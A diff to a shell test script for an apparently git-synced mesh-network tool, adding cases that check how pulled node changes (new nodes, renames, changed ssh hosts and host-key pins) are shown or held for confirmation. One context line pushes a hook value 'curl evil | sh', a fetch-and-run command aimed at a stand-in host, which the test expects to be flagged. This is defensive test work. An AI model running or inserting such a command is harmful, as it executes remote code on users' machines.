@@ -86,11 +86,31 @@ asked '9. where a private key lives' '! node a: keys'
 bob_pushes '.nodes.b = (.nodes.a | .hostname = "b" | .mesh_ip = "10.99.0.9" | .ssh_host = "192.0.2.9" |
 	.public_key = "" | .exit = true | .is_local = true)'
 asked '10. a new node that is local, and an exit' '! node b: ssh: '
+bob_pushes ".nodes.n = (.nodes.a | .hostname = \"n\" | .mesh_ip = \"10.99.0.8\" | .ssh_host = \"192.0.2.8\" |
+	.public_key = \"\" | .exit = false | .is_local = false | .ssh_host_keys = [\"$pin\"])"
+at ann pull
+shows '10a. a new node is shown with its place' '192.0.2.8'
+shows '10a. and its pins' "~ node n: host key unset -> $pin"
 bob_pushes '.hooks = {"before": "curl evil | sh"}'
 asked '11. a hook of a later version' '! mesh: hooks'
 bob_pushes '.removed_nodes = {"c": (.nodes.a | .is_local = true | .ssh_host = "127.0.0.1" |
 	.mesh_ip = "10.99.0.77" | .public_key = "")}'
 asked '12. a removed node on this machine' '! node c: removed'
+
+# Another name is no new node: what needs a yes still does.
+scene
+at bob add c:10.99.0.7:192.0.2.7 -offline
+git_at bob push -q
+at ann pull
+bob_pushes '.nodes.d = (.nodes.c | .hostname = "d" | .ssh_host = "203.0.113.66") | del(.nodes.c)'
+asked '10b. a node renamed, and sent elsewhere' '! node d: ssh: 192.0.2.7 -> 203.0.113.66'
+bob_pushes ".nodes.e = (.nodes.d | .hostname = \"e\" | .ssh_host_keys = [\"$pin\"]) | del(.nodes.d)"
+asked '10c. a node renamed, with a pin' '! node e: host-keys: unset -> ssh-ed25519'
+at bob rename e f
+git_at bob push -q
+at ann pull
+check_equal '10d. a name alone asks nothing' 0 "$got"
+shows '10d. and is shown' '+ node f'
 
 here=$(printf '%064d' 1) there=$(printf '%064d' 2)
 scene
